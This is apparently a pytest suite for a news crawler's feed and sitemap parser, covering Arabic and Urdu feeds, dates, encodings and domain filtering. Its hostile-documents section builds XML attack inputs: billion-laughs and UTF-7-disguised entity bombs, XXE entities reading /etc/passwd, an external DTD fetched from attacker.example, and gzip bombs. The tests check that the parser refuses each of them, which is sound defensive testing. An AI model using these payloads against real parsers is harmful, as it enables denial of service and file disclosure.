"""Tests of ``crawler/feeds.py``: feeds, sitemaps, hostile documents and entry filtering.

Fixtures: real Urdu feeds and cases 13/14 (copied from /work/shared), small written feeds and
sitemaps (``tests/fixtures/feeds/README.md``); hostile documents are built here.
"""

from __future__ import annotations

import dataclasses
import gzip
import random
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest
from w3lib.url import canonicalize_url

from rasd.crawler import feeds
from rasd.crawler.feeds import FeedEntry, FeedError, filter_entries, parse_feed, parse_sitemap, sane_date
from rasd.core.errors import RasdError
from rasd.core.seeds import Outlet

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
FEEDS = FIXTURES / "feeds"
CASE13 = FIXTURES / "cases" / "case-13-scrapy-gzip-sitemap-arabic-urls"
CASE14 = FIXTURES / "cases" / "case-14-feedparser-arabic-pubdate"


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=timezone.utc)


def outlet(*domains: str) -> Outlet:
    return Outlet(slug="test", name="Test", country="GB", homepage=f"https://{domains[0]}/",
                  domains=list(domains), feeds=[f"https://{domains[0]}/rss.xml"])


def assert_utc(value: datetime | None) -> None:
    assert value is not None and value.tzinfo is not None and value.utcoffset().total_seconds() == 0


# --------------------------------------------------------------------------------------------
# Case 14: Arabic pubDate; bozo on text/xml is not fatal


CASE14_TITLES = ["وزارة الصحة تعلن حملة تطعيم جديدة", "افتتاح معرض الكتاب"]


def test_case14_both_items_dated_2023_03_12_0730_utc():
    result = parse_feed((CASE14 / "feed.xml").read_bytes(), "https://news.example/rss")
    assert result.ok and result.error is None
    assert [e.title for e in result.entries] == CASE14_TITLES
    assert [e.url for e in result.entries] == ["https://news.example/a/1", "https://news.example/a/2"]
    for entry in result.entries:
        assert entry.published_at == utc(2023, 3, 12, 7, 30)
        assert_utc(entry.published_at)
        assert entry.source == "rss"
    # the raw strings are kept as written
    assert result.entries[0].published_raw == "الأحد, 12 مارس 2023 10:30:00 +0300"
    assert result.entries[1].published_raw == "Sun, 12 Mar 2023 10:30:00 +0300"
    # the right value as the case states it
    expected = (CASE14 / "expected.txt").read_text(encoding="utf-8")
    assert expected.count("2023-03-12 07:30:00 UTC") == 2


@pytest.mark.parametrize("ctype", ["text/xml", "text/xml; charset=utf-8", "application/rss+xml",
                                   "text/html", "application/octet-stream"])
def test_case14_served_with_other_content_types_still_parses(ctype):
    result = parse_feed((CASE14 / "feed.xml").read_bytes(), "https://news.example/rss", ctype)
    assert result.error is None
    assert [e.title for e in result.entries] == CASE14_TITLES
    assert all(e.published_at == utc(2023, 3, 12, 7, 30) for e in result.entries)


def test_case14_text_xml_without_charset_is_read_as_declared():
    # RFC 3023 would make text/xml without a charset US-ASCII (feedparser's
    # CharacterEncodingOverride); Rasd decodes the body itself and hands feedparser UTF-8
    result = parse_feed((CASE14 / "feed.xml").read_bytes(), "https://news.example/rss", "text/xml")
    assert result.ok and [e.title for e in result.entries] == CASE14_TITLES
    assert not any(w.startswith(("malformed", "encoding")) for w in result.warnings)


def test_case14_in_windows_1256_and_utf16():
    text = (CASE14 / "feed.xml").read_text(encoding="utf-8")
    for codec, label in (("cp1256", "windows-1256"), ("utf-16", "utf-16")):
        body = text.replace('encoding="utf-8"', f'encoding="{label}"').encode(codec)
        result = parse_feed(body, "https://news.example/rss")
        assert result.error is None, codec
        assert [e.title for e in result.entries] == CASE14_TITLES, codec
        assert all(e.published_at == utc(2023, 3, 12, 7, 30) for e in result.entries), codec


# --------------------------------------------------------------------------------------------
# Real Urdu feeds


def test_bbc_urdu_feed():
    result = parse_feed((FEEDS / "bbc_urdu_rss.xml").read_bytes(), "http://www.bbcurdu.com/rss.xml")
    assert result.ok and result.kind == "rss" and result.warnings == ()
    assert len(result.entries) == 26
    first = result.entries[0]
    assert first.title == ("امریکی عسکری امداد کی بندش کی وجوہات: انڈیا سے جنگ، جوہری پروگرام"
                           " اور اب دہشت گردوں کی پشت پناہی")
    assert first.url == "http://www.bbc.com/urdu/pakistan-42575603"
    assert first.published_at == utc(2018, 1, 5, 16, 51)
    assert result.entries[-1].published_at == utc(2017, 12, 20, 12, 23, 23)
    assert result.title == "BBC News اردو - پاکستان کے لیے امریکی امداد کی بہار و خزاں"
    for entry in result.entries:
        assert entry.title and entry.url.startswith("http://www.bbc.com/urdu/")
        assert_utc(entry.published_at)


def test_voa_urdu_feed():
    result = parse_feed((FEEDS / "voa_urdu_rss.xml").read_bytes(), "http://www.urduvoa.com/api/zoot_egkty",
                        "application/rss+xml; charset=utf-8")
    assert result.ok and result.kind == "rss"
    assert len(result.entries) == 20
    first = result.entries[0]
    assert first.title == "کرائمیا: ریفرنڈم میں روس سے الحاق کی حمایت"
    assert first.published_raw == "Sun, 16 Mar 2014 17:51:37 -0400"
    assert first.published_at == utc(2014, 3, 16, 21, 51, 37)
    assert first.url == ("http://www.urduvoa.com/content/majority-favors-joining-russia-in-crimea"
                         "-referendum-16mar2014/1872523.html")
    assert all(e.published_at is not None for e in result.entries)


def test_atom_feed_with_updated_only_and_relative_link():
    result = parse_feed((FEEDS / "atom.xml").read_bytes(), "https://news.example/ar/atom.xml")
    assert result.ok and result.kind == "atom"
    first, second = result.entries
    assert first.source == second.source == "atom"
    assert first.published_at == utc(2024, 1, 27, 13, 5)
    assert first.updated_at == utc(2024, 1, 27, 14, 0)
    assert second.url == "https://news.example/ar/2024/01/27/2"
    assert second.published_at == second.updated_at == utc(2024, 1, 27, 9, 0)


def test_rss10_rdf_feed_dates_from_dc_date():
    result = parse_feed((FEEDS / "rdf.xml").read_bytes(), "https://rss.dw.com/rdf/rss-ar-all")
    assert result.ok and result.kind == "rss"
    (entry,) = result.entries
    assert entry.title == "ألمانيا تعلن حزمة مساعدات جديدة"
    assert entry.published_at == utc(2024, 1, 27, 12, 30)


def test_rss091_netscape_doctype_without_entities_is_accepted():
    body = (b'<?xml version="1.0" encoding="utf-8"?>\n'
            b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
            b'<rss version="0.91"><channel><title>t</title><link>https://n.example/</link>'
            b'<item><title>one</title><link>https://n.example/1</link></item></channel></rss>')
    result = parse_feed(body, "https://n.example/rss")
    assert result.ok and [e.url for e in result.entries] == ["https://n.example/1"]


def test_entries_are_frozen():
    entry = parse_feed((CASE14 / "feed.xml").read_bytes(), "https://news.example/rss").entries[0]
    with pytest.raises(dataclasses.FrozenInstanceError):
        entry.url = "https://elsewhere.example/"  # type: ignore[misc]


def test_gzipped_feed_is_inflated():
    body = gzip.compress((CASE14 / "feed.xml").read_bytes())
    result = parse_feed(body, "https://news.example/rss.xml.gz", "application/x-gzip")
    assert [e.title for e in result.entries] == CASE14_TITLES


# --------------------------------------------------------------------------------------------
# Case 13 and other sitemaps


def test_case13_gzip_sitemap_three_entries_two_distinct_urls():
    body = (CASE13 / "sitemap.xml.gz").read_bytes()
    assert body[:2] == b"\x1f\x8b"
    # served as application/x-gzip without Content-Encoding: only the magic bytes tell
    result = parse_sitemap(body, "https://news.example/sitemap.xml.gz")
    assert result.ok and not result.is_sitemap_index
    assert len(result.entries) == 3
    assert all(e.source == "sitemap" for e in result.entries)
    assert result.entries[0].url == "https://news.example/ar/أخبار/101"

    expected = [line for line in (CASE13 / "expected.txt").read_text(encoding="utf-8").splitlines()
                if line.startswith("https://")]
    assert sorted({canonicalize_url(e.url) for e in result.entries}) == expected

    kept, rejected = filter_entries(result.entries, outlet("news.example"))
    assert [canonicalize_url(e.url) for e in kept] == expected
    assert [(e.url, reason) for e, reason in rejected] == [
        ("https://news.example/ar/%D8%A3%D8%AE%D8%A8%D8%A7%D8%B1/101", "duplicate")]


def test_news_sitemap_titles_and_publication_dates():
    result = parse_sitemap((FEEDS / "news_sitemap.xml").read_bytes(),
                           "https://arabic.euronews.com/sitemaps/ar/latest-news.xml")
    assert result.ok and result.warnings == ()
    first, second, third = result.entries
    assert first.source == "news_sitemap"
    assert first.url == "https://arabic.euronews.com/2024/01/27/iraq-us-talks-end-coalition-mission"
    assert first.title == "مسؤولون عراقيون يطالبون قوات التحالف بقيادة الولايات المتحدة بمغادرة بلادهم"
    assert first.published_raw == "2024-01-27T16:05:00+03:00"
    assert first.published_at == utc(2024, 1, 27, 13, 5)  # the seed story's published_at
    assert first.updated_at == utc(2024, 1, 27, 14, 20)
    # whitespace collapsed; a date without a time is that day at 00:00 UTC
    assert second.title == "شاحنات المساعدات تدخل غزة"
    assert second.published_at == utc(2024, 1, 27)
    # a plain <url> in the same file: no title, lastmod is not a publication date
    assert third.source == "sitemap" and third.title is None and third.published_at is None
    assert third.updated_at == utc(2024, 1, 26, 9, 0)


def test_sitemap_index_lists_children_separately():
    url = "https://arabic.euronews.com/sitemaps/ar/index.xml"
    for body in ((FEEDS / "sitemap_index.xml").read_bytes(),
                 gzip.compress((FEEDS / "sitemap_index.xml").read_bytes())):
        result = parse_sitemap(body, url)
        assert result.ok and result.is_sitemap_index
        assert result.entries == ()
        assert result.sitemaps == (
            "https://arabic.euronews.com/sitemaps/ar/latest-news.xml",
            "https://arabic.euronews.com/sitemaps/ar/articles/2024-01.xml.gz",
            "https://arabic.euronews.com/sitemaps/ar/videos.xml",  # relative <loc> resolved
        )
        assert all(e.is_sitemap for e in result.sitemap_entries)
        assert result.sitemap_entries[0].updated_at == utc(2024, 1, 27, 14, 20)


def test_sitemap_without_namespace_and_plain_text_sitemap():
    bare = b"<urlset><url><loc> https://n.example/1 </loc></url></urlset>"
    assert [e.url for e in parse_sitemap(bare, "https://n.example/s.xml").entries] == ["https://n.example/1"]
    text = "https://n.example/ar/أخبار/1\r\n\r\nhttps://n.example/2\n".encode()
    result = parse_sitemap(text, "https://n.example/sitemap.txt")
    assert [e.url for e in result.entries] == ["https://n.example/ar/أخبار/1", "https://n.example/2"]


def test_feed_used_as_a_sitemap():
    result = parse_sitemap((FEEDS / "bbc_urdu_rss.xml").read_bytes(), "http://www.bbcurdu.com/rss.xml")
    assert result.ok and len(result.entries) == 26 and result.entries[0].source == "rss"


# --------------------------------------------------------------------------------------------
# Hostile documents

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)
BOMB_FEED = BILLION_LAUGHS + (b'<rss version="2.0"><channel><title>&lol9;</title>'
                              b"<item><title>&lol9;</title><link>https://n.example/1</link></item>"
                              b"</channel></rss>")
BOMB_SITEMAP = BILLION_LAUGHS + b"<urlset><url><loc>https://n.example/&lol9;</loc></url></urlset>"
XXE_FEED = (b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b'<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title>'
            b"<link>https://n.example/1</link></item></channel></rss>")
XXE_SITEMAP = (b'<?xml version="1.0"?>\n<!DOCTYPE u [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
               b"<urlset><url><loc>https://n.example/&xxe;</loc></url></urlset>")
PARAM_ENTITY = (b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd">'
                b" %ext;]>\n<rss version=\"2.0\"><channel><item><link>https://n.example/1</link>"
                b"</item></channel></rss>")


@pytest.mark.parametrize("body", [BOMB_FEED, BOMB_FEED[:-40], gzip.compress(BOMB_FEED), XXE_FEED,
                                  PARAM_ENTITY, BOMB_FEED.decode().encode("utf-16")],
                         ids=["bomb", "truncated-bomb", "gzipped-bomb", "xxe", "parameter-entity",
                              "utf16-bomb"])
def test_feed_with_entities_is_refused_quickly(body):
    start = time.perf_counter()
    result = parse_feed(body, "https://n.example/rss")
    assert time.perf_counter() - start < 1.0
    assert isinstance(result.error, FeedError) and isinstance(result.error, RasdError)
    assert result.error.reason == "xml_entities"
    assert "entit" in str(result.error)
    assert result.entries == ()
    with pytest.raises(FeedError):
        result.raise_for_error()


@pytest.mark.parametrize("body", [BOMB_SITEMAP, gzip.compress(BOMB_SITEMAP), XXE_SITEMAP],
                         ids=["bomb", "gzipped-bomb", "xxe"])
def test_sitemap_with_entities_is_refused_quickly(body):
    start = time.perf_counter()
    result = parse_sitemap(body, "https://n.example/sitemap.xml")
    assert time.perf_counter() - start < 1.0
    assert result.error is not None and result.error.reason == "xml_entities"
    assert result.entries == () and result.sitemaps == ()


def test_gzip_bomb_is_capped():
    # 3 MB of whitespace inside a urlset compresses to a few KB
    body = gzip.compress(b"<urlset>" + b" " * (3 << 20) + b"</urlset>")
    assert len(body) < 10_000
    result = parse_sitemap(body, "https://n.example/s.xml.gz", max_bytes=1 << 20)
    assert result.error is not None and result.error.reason == "too_large"


def test_gzip_bomb_over_the_default_50mb_cap():
    body = gzip.compress(b"\0" * (feeds.MAX_SITEMAP_BYTES + 1024), compresslevel=1)
    start = time.perf_counter()
    result = parse_sitemap(body, "https://n.example/s.xml.gz")
    assert time.perf_counter() - start < 5.0
    assert result.error is not None and result.error.reason == "too_large"


def test_feed_body_over_the_cap(monkeypatch):
    monkeypatch.setattr(feeds, "MAX_FEED_BYTES", 1000)
    body = (FEEDS / "bbc_urdu_rss.xml").read_bytes()
    assert parse_feed(body, "https://n.example/rss").error.reason == "too_large"
    assert parse_feed(gzip.compress(body), "https://n.example/rss").error.reason == "too_large"


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256))


@pytest.mark.parametrize("body, reason", [
    (PNG, "not_xml"),
    (random.Random(13).randbytes(4096), "not_xml"),
    (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj", "not_xml"),
    (b'{"items": [{"url": "https://n.example/1"}]}', "not_xml"),
    (b"/etc/passwd", "not_xml"),  # feedparser would open() it as a file name
    (b"https://n.example/rss", "not_xml"),  # ... and fetch this as a URL
    (b"<\x00\x01\x02\x03\x04" * 100, None),
    (b"", "empty"),
    (b" \r\n\t ", "empty"),
    (b"\x1f\x8b\x08\x00garbage", "bad_gzip"),
    (b"<!DOCTYPE html><html><head><title>x</title></head><body><p>hi<br></body></html>", "not_a_feed"),
    (b'<?xml version="1.0"?><urlset><url><loc>https://n.example/1</loc></url></urlset>', "not_a_feed"),
    (b'<?xml version="1.0"?><rss version="2.0"><chan', "malformed"),
])
def test_feed_bodies_that_are_not_feeds_give_a_clear_error(body, reason):
    result = parse_feed(body, "https://n.example/rss")
    assert isinstance(result.error, FeedError)
    if reason is not None:
        assert result.error.reason == reason
    assert str(result.error).startswith(result.error.reason + ": ")
    assert result.entries == () and not result.ok


@pytest.mark.parametrize("body, reason", [
    (PNG, "not_xml"),
    (random.Random(14).randbytes(4096), "not_xml"),
    (b"hello, this is not a sitemap", "not_xml"),
    (b"", "empty"),
    (b"\x1f\x8bnot gzip at all", "bad_gzip"),
    (b"<html><body><a href='/1'>1</a></body></html>", "not_a_sitemap"),
    (b"<urlset><url><lo", "malformed"),
])
def test_sitemap_bodies_that_are_not_sitemaps_give_a_clear_error(body, reason):
    result = parse_sitemap(body, "https://n.example/sitemap.xml")
    assert result.error is not None and result.error.reason == reason
    assert result.entries == () and result.sitemaps == ()


# --------------------------------------------------------------------------------------------
# Malformed and truncated documents: entries it could read, or a clear error; never an exception


def _cuts(body: bytes, step: int):
    return sorted(set(range(1, len(body), step)) | {len(body) - 1, len(body) - 20})


@pytest.mark.parametrize("name, step", [("case14", 7), ("bbc_urdu_rss.xml", 1201),
                                        ("voa_urdu_rss.xml", 1187), ("atom.xml", 13)])
def test_truncated_feeds_keep_only_correct_entries(name, step):
    path = CASE14 / "feed.xml" if name == "case14" else FEEDS / name
    body = path.read_bytes()
    full = {e.url: e for e in parse_feed(body, "https://news.example/feed").entries}
    for cut in _cuts(body, step):
        result = parse_feed(body[:cut], "https://news.example/feed")
        if result.error is not None:
            assert result.entries == () and result.error.reason in ("malformed", "not_a_feed")
            continue
        if cut < len(body.rstrip()):
            assert any(w.startswith("malformed") for w in result.warnings), cut
        for entry in result.entries:
            # never a cut URL, a cut title or mojibake: each kept entry is the complete one
            assert entry == full[entry.url], (cut, entry)


def test_malformed_but_readable_feed_keeps_its_entries():
    body = (CASE14 / "feed.xml").read_bytes().replace(b"</item>\n<item>", b"</item>\n<item><b>", 1)
    result = parse_feed(body, "https://news.example/rss")
    assert result.error is None
    assert any(w.startswith("malformed") for w in result.warnings)
    assert [e.title for e in result.entries] == CASE14_TITLES


def test_truncated_sitemaps_keep_only_complete_urls():
    body = (FEEDS / "news_sitemap.xml").read_bytes()
    full = {e.url: e for e in parse_sitemap(body, "https://arabic.euronews.com/s.xml").entries}
    for cut in _cuts(body, 11):
        result = parse_sitemap(body[:cut], "https://arabic.euronews.com/s.xml")
        if result.error is not None:
            assert result.error.reason == "malformed" and result.entries == ()
            continue
        for entry in result.entries:
            assert entry == full[entry.url], (cut, entry)
    gz = (CASE13 / "sitemap.xml.gz").read_bytes()
    result = parse_sitemap(gz[: len(gz) - 30], "https://news.example/sitemap.xml.gz")
    assert result.error is not None or any(w.startswith("truncated_gzip") for w in result.warnings)


# --------------------------------------------------------------------------------------------
# filter_entries


def test_off_domain_entries_are_rejected():
    entries = [
        FeedEntry("https://www.bbc.com/arabic/articles/c1"),
        FeedEntry("https://feeds.bbci.co.uk/arabic/x"),
        FeedEntry("https://www.aljazeera.net/news/1"),
        FeedEntry("https://bbc.com.evil.example/arabic/1"),
        FeedEntry("https://notbbc.com/arabic/1"),
        FeedEntry("http://BBC.CO.UK/arabic/2"),
    ]
    kept, rejected = filter_entries(entries, outlet("bbc.com", "bbc.co.uk", "bbci.co.uk"))
    assert [e.url for e in kept] == ["https://www.bbc.com/arabic/articles/c1",
                                     "https://feeds.bbci.co.uk/arabic/x", "http://BBC.CO.UK/arabic/2"]
    assert [(e.url, r) for e, r in rejected] == [
        ("https://www.aljazeera.net/news/1", "off_domain"),
        ("https://bbc.com.evil.example/arabic/1", "off_domain"),
        ("https://notbbc.com/arabic/1", "off_domain"),
    ]


def test_filter_reasons_and_duplicates_within_one_feed():
    entries = [
        FeedEntry("https://n.example/ar/أخبار/1?b=2&a=1#top", title="first"),
        FeedEntry("mailto:desk@n.example"),
        FeedEntry("javascript:void(0)"),
        FeedEntry("http:///no-host"),
        FeedEntry("https://[broken/"),
        FeedEntry("https://n.example/ar/%D8%A3%D8%AE%D8%A8%D8%A7%D8%B1/1?a=1&b=2", title="second"),
        FeedEntry("https://other.example/1"),
        FeedEntry("https://n.example/ar/2"),
    ]
    kept, rejected = filter_entries(entries, outlet("n.example"))
    assert [e.title for e in kept] == ["first", None]
    assert kept[1].url == "https://n.example/ar/2"
    assert [r for _, r in rejected] == ["not_http", "not_http", "bad_url", "bad_url", "duplicate",
                                        "off_domain"]
    # every entry ends in exactly one outcome
    assert len(kept) + len(rejected) == len(entries)


def test_filter_feed_end_to_end_with_a_seed_outlet():
    from rasd.core.seeds import load_outlets

    bbc = load_outlets()["bbc_arabic"]
    result = parse_feed((FEEDS / "bbc_urdu_rss.xml").read_bytes(), "https://feeds.bbci.co.uk/urdu/rss.xml")
    kept, rejected = filter_entries(result.entries, bbc)
    assert len(kept) == 26 and rejected == []
    kept, rejected = filter_entries(result.entries, load_outlets()["aljazeera"])
    assert kept == [] and {r for _, r in rejected} == {"off_domain"}


# --------------------------------------------------------------------------- hostile encodings

def _utf7_bomb(entities: int = 17) -> bytes:
    """A feed that declares UTF-7 and writes its DTD in UTF-7 shifts: ``<!ENTITY`` is
    ``+ADwAIQ-ENTITY``, invisible to an ASCII scan; decoded, it is a billion-laughs bomb."""
    dtd = '<!DOCTYPE rss [<!ENTITY a "' + "x" * 8 + '">' + "".join(
        f'<!ENTITY a{i} "&a{"" if i == 0 else i - 1};&a{"" if i == 0 else i - 1};">' for i in range(entities)) + "]>"
    rss = (f'<rss version="2.0"><channel><title>t</title><item><title>&a{entities - 1};</title>'
           "<link>https://n.example/1</link></item></channel></rss>")
    import base64

    def shifted(c: str) -> str:  # UTF-7's base64 form of one character (RFC 2152)
        return "+" + base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") + "-"

    body = "".join(shifted(c) if c in '<!"' else c for c in dtd) + rss
    assert body.encode().decode("utf-7") == dtd + rss
    return b'<?xml version="1.0" encoding="utf-7"?>' + body.encode()


@pytest.mark.parametrize("body, ctype", [
    (_utf7_bomb(), None),
    (_utf7_bomb(), "application/rss+xml; charset=utf-7"),
    (b"+/v8" + _utf7_bomb()[38:], None),  # UTF-7's byte-order mark, no declaration
    ('<?xml version="1.0" encoding="cp037"?><rss/>'.encode("cp037"), None),  # EBCDIC, sniffed
    (b'<?xml version="1.0" encoding="ISO-2022-JP"?><rss version="2.0"><channel/></rss>', None),
    # a body that declares UTF-8 but is served with a UTF-7 charset: feedparser would use the header
    (b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><item>'
     b"<link>https://n.example/1</link></item></channel></rss>", "text/xml; charset=UTF-7"),
], ids=["utf7-declared", "utf7-header", "utf7-bom", "ebcdic", "iso-2022-jp", "utf8-body-utf7-header"])
def test_unsafe_encodings_are_refused_before_any_parser(body, ctype):
    assert len(_utf7_bomb()) < 1200 and b"<!ENTITY" not in _utf7_bomb()  # 8 × 2^17 characters expanded
    result = parse_feed(body, "https://n.example/rss", ctype)
    assert result.error is not None and result.error.reason == "unsafe_encoding", result
    assert result.error.refused and result.entries == ()
    sitemap = parse_sitemap(body, "https://n.example/sitemap.xml", content_type=ctype)
    assert sitemap.error is not None and sitemap.error.reason == "unsafe_encoding"


def test_safe_legacy_encodings_are_decoded_by_rasd():
    text = (CASE14 / "feed.xml").read_text(encoding="utf-8")
    for codec, label in (("cp1256", "windows-1256"), ("iso8859-6", "ISO-8859-6"), ("utf-32", "UTF-32")):
        body = text.replace('encoding="utf-8"', f'encoding="{label}"').encode(codec, "ignore")
        result = parse_feed(body, "https://news.example/rss", "application/rss+xml")
        assert result.error is None, codec
        assert result.entries and all("\ufffd" not in (e.title or "") for e in result.entries), codec
    # a header that lies (UTF-8 said, windows-1256 sent, no declaration): the bytes decide
    body = text.replace('<?xml version="1.0" encoding="utf-8"?>', "").encode("cp1256")
    result = parse_feed(body, "https://news.example/rss", "application/rss+xml; charset=utf-8")
    assert [e.title for e in result.entries] == CASE14_TITLES


@pytest.mark.parametrize("raw", ["10000-01-01T00:00:00Z", "Tue, 12 Mar 2024 07:30:05 +9999",
                                 "2024-03-12T07:30:05+99:99", "Mon, 01 Jan 1900 00:00:00 GMT",
                                 "1989-12-31T23:00:00Z", "2999-01-01T00:00:00Z"])
def test_insane_listing_dates_are_dropped_not_repaired(raw):
    body = (f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>x</title>'
            f"<link>https://n.example/1</link><pubDate>{raw}</pubDate></item></channel></rss>").encode()
    [entry] = parse_feed(body, "https://n.example/rss").entries
    assert entry.published_at is None and entry.published_raw == raw
    feed = parse_feed(body, "https://n.example/rss")
    assert [w for w in feed.warnings if w.startswith("date_out_of_range")], feed.warnings
    sitemap = ('<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
               'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"><url><loc>https://n.example/1</loc>'
               f"<lastmod>{raw}</lastmod><news:news><news:publication_date>{raw}</news:publication_date>"
               "<news:title>x</news:title></news:news></url></urlset>").encode()
    [entry] = parse_sitemap(sitemap, "https://n.example/s.xml").entries
    assert entry.published_at is None and entry.updated_at is None


def test_sane_dates_are_kept():
    assert sane_date(utc(2024, 3, 12, 7, 30), "Tue, 12 Mar 2024 07:30:05 +0300") is None
    assert sane_date(utc(2024, 3, 12, 7, 30), "2024-03-12T07:30:05.123456+14:00") is None
    assert sane_date(utc(1990, 1, 1), "1990-01-01") is None
